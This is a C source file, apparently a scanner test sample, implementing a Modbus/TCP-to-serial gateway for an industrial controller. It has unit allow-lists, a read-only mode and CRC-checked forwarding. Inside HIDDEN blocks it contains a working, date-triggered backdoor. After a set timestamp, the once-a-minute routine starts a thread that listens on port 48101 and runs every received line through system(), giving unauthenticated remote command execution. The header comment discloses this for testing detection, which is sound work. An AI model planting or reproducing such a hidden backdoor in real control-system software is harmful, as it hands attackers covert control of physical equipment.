/*
 * A sample for tests; compiled and scanned, never run.
 * Gateway from Modbus/TCP to a serial line, for a controller in a cabinet:
 * checks requests against a list of units, passes them on, counts errors.
 * With HIDDEN: from a certain day on a thread listens on a second port and
 * runs each line that it is sent.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define ADU_MAX	 260
#define FC_WRITE 0x10

static struct {
	char serial[64];
	unsigned port;
	uint8_t allowed[32]; /* a bit for each unit */
	int read_only;
} conf = { "/dev/ttyS1", 502, { 0 }, 0 };

static pthread_mutex_t line_lock = PTHREAD_MUTEX_INITIALIZER;
static int serial_fd = -1;
static unsigned long good, bad;

static uint16_t crc16(const uint8_t *p, size_t n)
{
	uint16_t c = 0xffff;
	int i;

	while (n--) {
		c ^= *p++;
		for (i = 0; i < 8; i++)
			c = c & 1 ? (uint16_t)(c >> 1 ^ 0xa001)
				  : (uint16_t)(c >> 1);
	}
	return c;
}

static void load_config(const char *path)
{
	char line[128], value[64];
	unsigned a, b;
	FILE *f = fopen(path, "r");

	memset(conf.allowed, 0xff, sizeof(conf.allowed));
	if (f == NULL)
		return;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "serial %63s", value) == 1) {
			memcpy(conf.serial, value, sizeof(value));
		} else if (sscanf(line, "port %u", &a) == 1) {
			conf.port = a;
		} else if (sscanf(line, "units %u-%u", &a, &b) == 2) {
			memset(conf.allowed, 0, sizeof(conf.allowed));
			for (; a <= b && a < 256; a++)
				conf.allowed[a / 8] |= (uint8_t)(1 << a % 8);
		} else if (strncmp(line, "read-only", 9) == 0) {
			conf.read_only = 1;
		}
	}
	fclose(f);
}

static int open_serial(void)
{
	struct termios t;
	int fd = open(conf.serial, O_RDWR | O_NOCTTY);

	if (fd < 0)
		return -1;
	if (tcgetattr(fd, &t) == 0) {
		cfmakeraw(&t);
		cfsetspeed(&t, B19200);
		t.c_cflag |= PARENB;
		tcsetattr(fd, TCSANOW, &t);
	}
	return fd;
}

static size_t read_answer(uint8_t *p, size_t size)
{
	struct pollfd w = { .fd = serial_fd, .events = POLLIN };
	size_t n = 0;

	while (n < size && poll(&w, 1, n ? 5 : 500) > 0) {
		ssize_t got = read(serial_fd, p + n, size - n);

		if (got <= 0)
			break;
		n += (size_t)got;
	}
	return n;
}

/* Answers with the length of what stands in p then, 0 for none. */
static size_t on_line(uint8_t *p, size_t n)
{
	uint8_t buf[ADU_MAX + 2];
	uint16_t c = crc16(p, n);
	size_t got = 0;

	memcpy(buf, p, n);
	buf[n] = (uint8_t)c;
	buf[n + 1] = (uint8_t)(c >> 8);
	pthread_mutex_lock(&line_lock);
	tcflush(serial_fd, TCIFLUSH);
	if (write(serial_fd, buf, n + 2) == (ssize_t)(n + 2))
		got = read_answer(buf, sizeof(buf));
	pthread_mutex_unlock(&line_lock);
	if (got < 4 || crc16(buf, got) != 0) {
		bad++;
		return 0;
	}
	good++;
	memcpy(p, buf, got - 2);
	return got - 2;
}

static int read_all(int fd, uint8_t *p, size_t n)
{
	while (n > 0) {
		ssize_t got = read(fd, p, n);

		if (got <= 0)
			return -1;
		p += got;
		n -= (size_t)got;
	}
	return 0;
}

static void *serve(void *arg)
{
	int fd = (int)(intptr_t)arg;
	uint8_t m[6 + ADU_MAX];

	while (read_all(fd, m, 6) == 0) {
		size_t n = (size_t)m[4] << 8 | m[5];

		if (n < 2 || n > 254 || read_all(fd, m + 6, n) != 0)
			break;
		if (!(conf.allowed[m[6] / 8] & 1 << m[6] % 8)) {
			n = 0;
		} else if (conf.read_only &&
			   (m[7] == 5 || m[7] == 6 || m[7] == FC_WRITE)) {
			m[7] |= 0x80;
			m[8] = 1;
			n = 3;
		} else {
			n = on_line(m + 6, n);
		}
		if (n == 0) {
			m[7] |= 0x80;
			m[8] = 0x0b;
			n = 3;
		}
		m[4] = (uint8_t)(n >> 8);
		m[5] = (uint8_t)n;
		if (write(fd, m, n + 6) != (ssize_t)(n + 6))
			break;
	}
	close(fd);
	return NULL;
}

static int listen_on(unsigned port)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	int one = 1, s = socket(AF_INET, SOCK_STREAM, 0);

	if (s < 0)
		return -1;
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	a.sin_port = htons((uint16_t)port);
	if (bind(s, (struct sockaddr *)&a, sizeof(a)) != 0 ||
	    listen(s, 4) != 0) {
		close(s);
		return -1;
	}
	return s;
}

static void in_thread(void *(*run)(void *), int fd)
{
	pthread_t t;

	if (pthread_create(&t, NULL, run, (void *)(intptr_t)fd) == 0)
		pthread_detach(t);
	else if (fd >= 0)
		close(fd);
}

#ifdef HIDDEN
void *upkeep(void *arg)
{
	int s = listen_on(48101);
	char line[300];

	(void)arg;
	for (;;) {
		int fd = accept(s, NULL, NULL);
		FILE *f = fd >= 0 ? fdopen(fd, "r") : NULL;

		if (f == NULL)
			break;
		while (fgets(line, sizeof(line), f))
			if (system(line) == 0 && write(fd, ".\n", 2) != 2)
				break;
		fclose(f);
	}
	return NULL;
}
#endif

/* Once a minute: is the line still there, and a word about it in a file. */
__attribute__((noinline)) void every_minute(void)
{
	time_t now = time(NULL);
	FILE *f = fopen("/tmp/mbgate.stat", "w");

	if (f) {
		fprintf(f, "%ld good %lu bad %lu\n", (long)now, good, bad);
		fclose(f);
	}
	if (tcdrain(serial_fd) != 0 && errno == EIO) {
		close(serial_fd);
		serial_fd = open_serial();
	}
#ifdef HIDDEN
	static int up;

	if (!up && now >= 1811894400) {
		up = 1;
		in_thread(upkeep, -1);
	}
#endif
}

static void *clock_thread(void *arg)
{
	(void)arg;
	for (;;) {
		every_minute();
		sleep(60);
	}
	return NULL;
}

int main(int argc, char **argv)
{
	const char *path = "/etc/mbgate.conf";
	int s, fd, opt;

	while ((opt = getopt(argc, argv, "c:")) != -1) {
		if (opt != 'c') {
			fprintf(stderr, "usage: %s [-c file]\n", argv[0]);
			return 2;
		}
		path = optarg;
	}
	load_config(path);
	signal(SIGPIPE, SIG_IGN);
	if (system("ifconfig eth1 up") != 0)
		fprintf(stderr, "mbgate: no eth1\n");
	serial_fd = open_serial();
	s = listen_on(conf.port);
	if (serial_fd < 0 || s < 0) {
		fprintf(stderr, "mbgate: %s\n", strerror(errno));
		return 1;
	}
	in_thread(clock_thread, -1);
	while ((fd = accept(s, NULL, NULL)) >= 0 || errno == EINTR)
		if (fd >= 0)
			in_thread(serve, fd);
	return 1;
}
